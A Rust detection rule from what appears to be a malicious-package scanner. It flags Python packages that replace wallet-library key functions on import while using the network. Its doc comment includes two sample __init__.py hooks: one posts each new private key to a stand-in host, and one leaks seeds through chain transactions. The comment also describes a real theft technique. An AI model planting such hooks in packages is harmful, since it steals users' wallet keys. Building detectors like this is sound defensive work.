//! ## What it detects
//!
//! Functions of a library for keys and wallets that are replaced, when a package is imported, by ones of its own, in a package that uses the network.
//!
//! ## Why it is bad
//!
//! Every key that is made or read afterwards goes through the replacement, which sends it away.
//!
//! ## A real incident
//!
//! Packages with helpers for sets and types replaced the functions that make key pairs, and sent each private key through a server of the block chain itself, encrypted, so that no unknown host was ever asked.
//!
//! ## Innocent lookalikes
//!
//! Tests that replace a function while they run.
//!
//! ## Bad
//!
//! ```python pkg/__init__.py
//! import requests
//! from eth_account import Account
//! old = Account.create
//! def create(self):
//!     account = old(self)
//!     requests.post('http://x.example.invalid', data=account.key)
//!     return account
//! Account.create = create
//! ```
//!
//! ## Bad
//!
//! ```python pkg/__init__.py
//! import solders.keypair
//! made = solders.keypair.Keypair
//! class Keypair(made):
//!     @staticmethod
//!     def from_seed(seed):
//!         client.send_transaction(wrapped(bytes(seed)))
//!         return made.from_seed(seed)
//! solders.keypair.Keypair = Keypair
//! ```
//!
//! ## Good
//!
//! ```python pkg/__init__.py
//! import requests, warnings
//! def show(message):
//!     pass
//! warnings.showwarning = show
//! ```

use fondaco_python::{Api, Call};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("patched-wallet"),
    title: "replaces functions that handle keys",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::BrowserWalletTheft),
    weight: 2.4,
    check,
};

/// Packages that make and read the keys of wallets.
const WALLETS: [&str; 16] = [
    "eth_account", "eth_keys", "web3", "solders", "solana", "nacl", "ecdsa", "coincurve", "bip_utils", "bit", "bitcoin", "bitcoinlib",
    "mnemonic", "hdwallet", "tronpy", "xrpl",
];

/// What code says that talks to a chain.
const CHAIN: [&str; 6] =
    ["send_raw_transaction", "sendTransaction", "send_transaction", "solana.rpc", "create_memo", "Web3("];

fn check(package: &Package<'_>, hits: &mut Hits) {
    let is_patch = |call: &Call| {
        let of = call.callee.split('.').next().unwrap_or_default();
        call.api == Some(Api::Patch) && WALLETS.contains(&of) && call.trigger.is_some_and(Trigger::is_unasked)
    };
    let patches: Vec<_> = package.calls().filter(|(_, call)| is_patch(call)).collect();
    if patches.is_empty() || !(sends(package) || uses_chain(package)) {
        return;
    }
    for (unit, call) in patches {
        hits.call(unit, call, format!("{} is replaced", call.callee));
    }
}

fn sends(package: &Package<'_>) -> bool {
    package.calls().any(|(_, call)| {
        matches!(call.api, Some(Api::NetworkSend | Api::NetworkFetch | Api::Socket)) || call.callee.contains("HTTPProvider")
    })
}

fn uses_chain(package: &Package<'_>) -> bool {
    package.units().any(|unit| CHAIN.iter().any(|mark| unit.text.contains(mark)))
}
